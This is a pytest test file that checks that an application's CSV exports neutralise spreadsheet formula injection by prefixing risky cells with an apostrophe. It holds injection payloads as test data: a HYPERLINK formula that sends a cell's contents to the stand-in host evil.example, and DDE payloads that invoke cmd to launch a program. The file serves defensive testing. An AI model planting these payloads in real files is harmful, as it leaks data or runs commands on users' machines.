"""Every CSV export goes through one writer that keeps cells from being run as formulas."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from ankomst import csv_export
from ankomst.allowances import services
from ankomst.allowances.models import Scheme
from ankomst.centres.models import Centre
from ankomst.people.models import Household, Relation

START, CUTOFF = dt.date(2024, 3, 4), dt.date(2024, 3, 1)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DDE = "=2+5+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text", [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
)
def test_a_formula_start_is_written_as_text(text):
    [row] = list(csv.reader(io.StringIO(csv_export.to_text(["x"], [[text]]))))[1:]
    assert row == ["'" + text]


def test_numbers_stay_plain_numbers_with_a_dot():
    body = csv_export.to_text(["a", "b", "c", "d"], [[Decimal("-317.74"), 5, "Ahmad", None]])
    assert body.splitlines()[1] == "-317.74,5,Ahmad,"


def test_the_payment_run_csv_is_safe(
    client_of, caseworker, finance, dk_operator, make_person, check_in
):
    household = Household.objects.create(organisation=dk_operator, reference=DDE)
    person = make_person(dk_operator, HYPERLINK, household=household, relation=Relation.HEAD)
    check_in(person)
    run = services.run_prepare(
        user=caseworker,
        organisation=dk_operator,
        scheme=Scheme.ALLOWANCE,
        period_start=START,
        cutoff=CUTOFF,
    )
    services.run_approve(user=finance, run=run)
    services.run_lock(user=finance, run=run)
    run.refresh_from_db()
    response = client_of(finance).post(
        f"/payments/runs/{run.pk}/export.csv", {"version": run.version}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows and all(r["person"] == "'" + HYPERLINK for r in rows)
    assert all(r["household_reference"] == "'" + DDE for r in rows)
    # Amounts are machine-readable: a dot, two decimals, no grouping, no currency sign.
    assert {r["amount"] for r in rows} >= {"817.74"}
    assert all(r["rule"].startswith("dk.") for r in rows)


def test_the_occupancy_csv_is_safe(client_of, staff, centre):
    Centre.objects.filter(pk=centre.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    response = client_of(staff).get("/centres/occupancy.csv")
    [header, row] = list(csv.reader(io.StringIO(response.content.decode())))
    assert row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[3] == "40"
